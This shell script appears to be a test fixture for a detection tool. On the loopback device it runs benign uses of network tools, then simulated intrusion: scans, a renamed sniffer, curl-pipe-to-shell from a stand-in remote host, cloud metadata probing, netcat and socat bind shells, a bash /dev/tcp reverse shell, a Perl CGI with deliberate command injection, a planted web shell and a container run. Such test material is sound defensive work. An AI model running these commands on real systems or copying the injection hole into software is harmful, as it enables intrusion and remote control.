# SPDX-License-Identifier: Apache-2.0
# A test step of a dependency looks around, opens a shell to the network in the usual ways, breaks into a web application and
# enters a container, all on the loopback device. Before that it does what tests honestly do with the same tools.
set -eu

ip address add 198.51.100.7/32 dev lo              # stands for a machine elsewhere
ip address add 10.20.30.40/32 dev lo               # stands for a neighbour

mkdir -p www site/cgi
cat > www/install.sh <<'END'
echo installed
END

cat > honest.sh <<'END'
python3 -m http.server --bind 127.0.0.1 --directory www 18000 > server.log 2>&1 &
server=$!
for try in 1 2 3 4 5 6 7 8 9 10; do
	nc -z 127.0.0.1 18000 && break                  # waits for a service
	sleep 1
done
curl -s http://127.0.0.1:18000/install.sh | sh       # from the machine itself
curl -s -o app.sh http://localhost:18000/install.sh
wget -q -O /dev/null http://localhost:18000/install.sh
bash -c 'exec 3<>/dev/tcp/127.0.0.1/18000 && echo open'
ping -q -c 1 -w 1 127.0.0.1
python3 -c 'import subprocess; subprocess.run("make --version; true", shell=True)'
perl -e 'system("echo built; echo tested")'
echo 'print("checked")' > check.py && python3 check.py
sh -c 'sh ./app.sh'                                  # a shell below a shell
apache2 -v
mkdir -p runc nmap && ls runc nmap
grep -c nmap honest.sh
which nmap socat runc
kill $server
END

cat > site/httpd.conf <<'END'
ServerRoot /home/runner/work/hello/hello/site
ServerName localhost
Listen 127.0.0.1:18080
PidFile /home/runner/work/hello/hello/site/pid
ErrorLog /home/runner/work/hello/hello/site/error.log
LoadModule mpm_prefork_module /usr/lib/apache2/modules/mod_mpm_prefork.so
LoadModule alias_module /usr/lib/apache2/modules/mod_alias.so
LoadModule authz_core_module /usr/lib/apache2/modules/mod_authz_core.so
LoadModule cgi_module /usr/lib/apache2/modules/mod_cgi.so
User nobody
Group nogroup
ScriptAlias /cgi/ /home/runner/work/hello/hello/site/cgi/
<Directory /home/runner/work/hello/hello/site/cgi>
Require all granted
Options ExecCGI
</Directory>
END
# A page that asks whether a machine answers, and asks a shell to do it.
cat > site/cgi/status.pl <<'END'
#!/usr/bin/perl
$| = 1;
print "Content-Type: text/plain\n\n";
my $host = $ENV{QUERY_STRING};
$host =~ s/%([0-9A-Fa-f]{2})/chr hex $1/ge;
system "/bin/echo asked for $host";
END
# What an intruder leaves behind.
cat > site/cgi/upload.cgi <<'END'
#!/bin/sh
echo Content-Type: text/plain
echo
id
END
chmod 755 site/cgi/status.pl site/cgi/upload.cgi
chmod -R a+rX .

cat > intrude.sh <<'END'
# Looks around.
nmap --version > /dev/null                           # harmless
nmap -n -Pn -sT -p 18000-18010 127.0.0.1             # the machine itself
nmap -n -Pn -sT -p 22,80 10.20.30.40
fping -c 1 10.20.30.40
nc -z -w 1 10.20.30.40 20-25                         # netcat scans too
cp "$(command -v tcpdump)" ./metrics-agent           # a sniffer under another name
./metrics-agent --version
ping -q -i 0.1 -w 30 127.0.0.1 > /dev/null &
pinger=$!
./metrics-agent -n -i lo -c 1
kill $pinger

# Offers files to others and takes some.
python3 -m http.server --directory www 18001 > /dev/null 2>&1 &
server=$!
sleep 2
curl -s -m 2 http://198.51.100.7:18001/install.sh
wget -q -T 2 -t 1 -O - http://198.51.100.7:18001/install.sh | sh
sh -c 'curl -s -m 2 http://198.51.100.7:18001/install.sh | sh'
kill $server
curl -s -m 1 http://169.254.169.254/latest/meta-data/
ping -q -c 1 -w 1 198.51.100.7
ssh -o BatchMode=yes -o ConnectTimeout=1 deploy@198.51.100.7 true
nc -w 1 198.51.100.7 18009 < /dev/null

# Shells for somebody at the other end.
timeout 3 nc.traditional -l -p 18101 -s 127.0.0.1 -e /bin/sh &
sleep 1
echo id | timeout 2 nc.traditional -w 1 127.0.0.1 18101
timeout 3 socat TCP-LISTEN:18102,bind=127.0.0.1 EXEC:/bin/sh &
sleep 1
echo id | timeout 2 nc -N 127.0.0.1 18102
timeout 2 bash -c 'bash -i >& /dev/tcp/127.0.0.1/18103 0>&1'
echo 'exit' | timeout 5 python3 -c 'import pty; pty.spawn("/bin/sh")'
python3 -c 'import os; os.system("/bin/sh -i")' < /dev/null
perl -e 'system "/bin/bash", "-i"' < /dev/null
perl -e 'exec "/bin/sh"' < /dev/null                 # becomes it: a known miss
python3 -c 'import os; os.system("echo aWQK | base64 -d | sh")'

# A web application with a hole.
apache2 -X -f /home/runner/work/hello/hello/site/httpd.conf &
apache=$!
sleep 2
curl -s -m 5 'http://127.0.0.1:18080/cgi/status.pl?localhost'
curl -s -m 5 'http://127.0.0.1:18080/cgi/status.pl?localhost%3Bid'
curl -s -m 5 http://127.0.0.1:18080/cgi/upload.cgi
kill $apache
wait $apache

# A container past those who manage them.
mkdir -p bundle/rootfs/bin
cp "$(command -v busybox)" bundle/rootfs/bin/busybox
cd bundle
runc spec
runc list
sed -i 's/"terminal": true/"terminal": false/; s/"sh"/"\/bin\/busybox", "true"/' config.json
runc run escape
exit 0
END

sh honest.sh 2>&1
sh intrude.sh 2>&1
